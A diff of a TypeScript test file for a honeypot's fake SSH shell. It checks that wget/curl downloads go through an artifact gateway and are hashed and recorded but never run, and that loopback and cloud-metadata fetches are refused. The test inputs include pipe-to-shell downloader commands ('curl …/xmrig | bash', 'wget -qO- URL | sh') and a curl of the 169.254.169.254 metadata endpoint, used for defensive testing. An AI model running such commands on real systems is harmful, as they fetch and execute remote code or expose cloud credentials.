@@ -1,61 +1,61 @@
 // The fake shell's wget/curl really fetch (a real HTTP server on this host's LAN address), hash what
 // came, record a `download` event, and never run it; crontab and `>>` into cron files are accepted and
 // recorded. The last case drives the whole path through the ssh emulator with a real SSH client.
+// The fake shell's wget/curl ask the artifact gateway (a worker beside the API; the real one is tested
+// end to end in packages/lifecycle/test/artifact-gateway.test.ts) and print what the real tools
+// print from its answer, record a `download` event, and never run what came; crontab and `>>` into
+// cron files are accepted and recorded. The last case drives the ssh emulator with a real SSH client
+// against a gateway socket answering as the real one does.
 import { createHash } from 'node:crypto'
+import { mkdtempSync, rmSync } from 'node:fs'
 import { createServer, type Server } from 'node:http'
-import type { AddressInfo } from 'node:net'
-import { networkInterfaces } from 'node:os'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import type { FetchResult } from '@decnet/core'
 import { Client } from 'ssh2'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import type { Fields } from '../src/framework/tcp.ts'
-import {
-  fetchSample,
-  MAX_DOWNLOAD_BYTES,
-  MAX_DOWNLOADS_PER_SESSION,
-} from '../src/protocols-text/shell/downloads.ts'
+import { type Downloader, MAX_DOWNLOADS_PER_SESSION } from '../src/protocols-text/shell/downloads.ts'
 import { shellHost } from '../src/protocols-text/shell/persona.ts'
 import { createShell, type FakeShell, settle } from '../src/protocols-text/shell/shell.ts'
 import { startTestEmulator } from './helpers.ts'
 import { alpinePersona, debianPersona } from './shell-personas.ts'
 
 const MINER = Buffer.from(`\x7fELF${'xmrig-test-payload '.repeat(500)}`)
-const BIG = Buffer.alloc(MAX_DOWNLOAD_BYTES + 300_000, 7)
-let server: Server
-let base = ''
+const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')
+const base = 'http://198.51.100.20:8080'
 const requests: string[] = []
 
-/** A non-loopback IPv4 of this host: loopback is never fetched (it would be the decky itself). */
-function lanAddress(): string {
-  for (const list of Object.values(networkInterfaces()))
-    for (const entry of list ?? []) if (entry.family === 'IPv4' && !entry.internal) return entry.address
-  throw new Error('no non-loopback IPv4 address on this host')
+/** Answers as the gateway does for a server serving /xmrig, redirecting /moved, 404 elsewhere. */
+const gatewayAnswer = (url: string): FetchResult => {
+  requests.push(url)
+  if (url.includes('127.0.0.1') || url.includes('169.254.')) return { ok: false, url, failure: 'blocked' }
+  const path = new URL(url).pathname
+  const served = {
+    ok: true as const,
+    address: '198.51.100.20',
+    port: 8080,
+    contentType: 'application/octet-stream',
+  }
+  if (path === '/xmrig' || path === '/moved')
+    return {
+      ...served,
+      url: `${base}/xmrig`,
+      status: 200,
+      size: MINER.length,
+      sha256: sha256(MINER),
+      truncated: false,
+    }
+  if (path === '/stall') return { ok: false, url, failure: 'timeout', address: '198.51.100.20', port: 8080 }
+  return { ...served, url, status: 404, size: 4, sha256: sha256(Buffer.from('nope')), truncated: false }
 }
-
-beforeAll(async () => {
-  server = createServer((request, response) => {
-    requests.push(request.url ?? '')
-    if (request.url?.startsWith('/xmrig')) response.end(MINER)
-    else if (request.url === '/big') response.end(BIG)
-    else if (request.url === '/moved') response.writeHead(302, { location: '/xmrig' }).end()
-    else if (request.url === '/stall')
-      response.writeHead(200).write('x') // never ends
-    else response.writeHead(404).end('nope')
-  })
-  await new Promise<void>((resolve) => server.listen(0, lanAddress(), resolve))
-  base = `http://${lanAddress()}:${(server.address() as AddressInfo).port}`
-})
-afterAll(() => {
-  server.closeAllConnections()
-  server.close()
-})
-
-const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex')
+const gatewayDouble: Downloader = async (url) => gatewayAnswer(url)
 
 function shellWithEvents(user = 'root', persona = debianPersona('0123456789abcdef0123456789abcdef')) {
   const events: { event: string; fields: Fields }[] = []
   const host = shellHost(persona, { bindAddress: '10.20.30.40', nowMs: Date.now() })
   const shell = createShell(host, user, {
-    download: (url) => fetchSample(url, { timeoutMs: 1500 }),
+    download: gatewayDouble,
     emit: (event, fields) => events.push({ event, fields }),
   })
   return { shell, events }
@@ -117,29 +117,15 @@ describe('wget and curl in the fake shell', () => {
     expect(await run(shell, `curl ${base}/xmrig | bash`)).toMatch(/% Total {4}% Received/)
   })
 
-  it('caps a download at 8 MiB (hash of the kept bytes, truncated) and gives up on a stalled server', async () => {
+  it('what the gateway could not fetch (a stalled server, a refused address) is recorded with its reason and printed as the tool would', async () => {
     const { shell, events } = shellWithEvents()
-    await run(shell, `wget -q ${base}/big`)
-    expect(events[0]?.fields).toMatchObject({
-      size: MAX_DOWNLOAD_BYTES,
-      truncated: true,
-      sha256: sha256(BIG.subarray(0, MAX_DOWNLOAD_BYTES)),
-    })
-    const started = Date.now()
-    await run(shell, `curl -s ${base}/stall -o /tmp/s`)
-    expect(Date.now() - started).toBeLessThan(15_000)
-    expect(events[1]?.fields).toMatchObject({ url: `${base}/stall`, error: 'timeout' })
-  })
-
-  it('never fetches loopback or link-local (the decky itself, cloud metadata): refused, recorded, no request made', async () => {
-    const { shell, events } = shellWithEvents()
-    const port = (server.address() as AddressInfo).port
-    const before = requests.length
-    expect(await run(shell, `wget http://127.0.0.1:${port}/xmrig`)).toMatch(/failed: Connection refused/)
+    expect(await run(shell, `curl -sS ${base}/stall -o /tmp/s`)).toMatch(
+      /^curl: \(28\) Failed to connect to 198\.51\.100\.20 port 8080 after \d+ ms: Timeout was reached\n$/,
+    )
+    expect(events[0]?.fields).toMatchObject({ url: `${base}/stall`, error: 'timeout' })
+    expect(await run(shell, 'wget http://127.0.0.1:4000/xmrig')).toMatch(/failed: Connection refused/)
     await run(shell, 'curl -s http://169.254.169.254/latest/meta-data/')
-    await run(shell, `curl -s http://localhost:${port}/xmrig`)
-    expect(requests.length).toBe(before)
-    expect(events.map((e) => e.fields.error)).toEqual(['blocked', 'blocked', 'blocked'])
+    expect(events.slice(1).map((e) => e.fields.error)).toEqual(['blocked', 'blocked'])
   })
 
   it('a user cannot save outside their home and the temp dirs (the fetch is still recorded)', async () => {
@@ -206,10 +192,38 @@ describe('crontab and cron files in the fake shell', () => {
 
 describe('the ssh emulator with downloads', () => {
   let ssh: Awaited<ReturnType<typeof startTestEmulator>>
+  let gateway: Server
+  const dir = mkdtempSync(join(tmpdir(), 'decnet-gateway-'))
+  const asked: { decky: string; token: string; body: string }[] = []
   beforeAll(async () => {
+    gateway = createServer((request, response) => {
+      let body = ''
+      request.on('data', (chunk) => (body += chunk))
+      request.on('end', () => {
+        asked.push({
+          decky: String(request.headers['x-decnet-decky']),
+          token: String(request.headers['x-decnet-token']),
+          body,
+        })
+        response.end(JSON.stringify(gatewayAnswer((JSON.parse(body) as { url: string }).url)))
+      })
+    })
+    await new Promise<void>((resolve) => gateway.listen(join(dir, 'gateway.sock'), resolve))
+    Object.assign(process.env, {
+      DECNET_ARTIFACT_GATEWAY: join(dir, 'gateway.sock'),
+      DECNET_ARTIFACT_TOKEN: 'token-of-decky-ssh',
+      DECNET_DECKY: 'decky-ssh',
+    })
     ssh = await startTestEmulator('ssh', { config: { password: 'rootpw' }, seed: 'decky-ssh-dl' })
   })
-  afterAll(() => ssh.running.close())
+  afterAll(async () => {
+    delete process.env.DECNET_ARTIFACT_GATEWAY
+    delete process.env.DECNET_ARTIFACT_TOKEN
+    delete process.env.DECNET_DECKY
+    await ssh.running.close()
+    gateway.close()
+    rmSync(dir, { recursive: true, force: true })
+  })
 
   it('an exec channel (`ssh host "wget -qO- URL | sh"`) downloads, records the sample and ends cleanly', async () => {
     const client = new Client()
@@ -235,6 +249,14 @@ describe('the ssh emulator with downloads', () => {
       expect(code).toBe(0)
       const download = await ssh.waitFor((e) => e.event === 'download')
       expect(download.fields).toMatchObject({ url: `${base}/xmrig`, sha256: sha256(MINER), username: 'root' })
+      // The decoy asked the gateway (it fetched nothing itself), naming its decky and token.
+      expect(asked).toEqual([
+        {
+          decky: 'decky-ssh',
+          token: 'token-of-decky-ssh',
+          body: JSON.stringify({ url: `${base}/xmrig`, tool: 'wget' }),
+        },
+      ])
     } finally {
       client.end()
     }
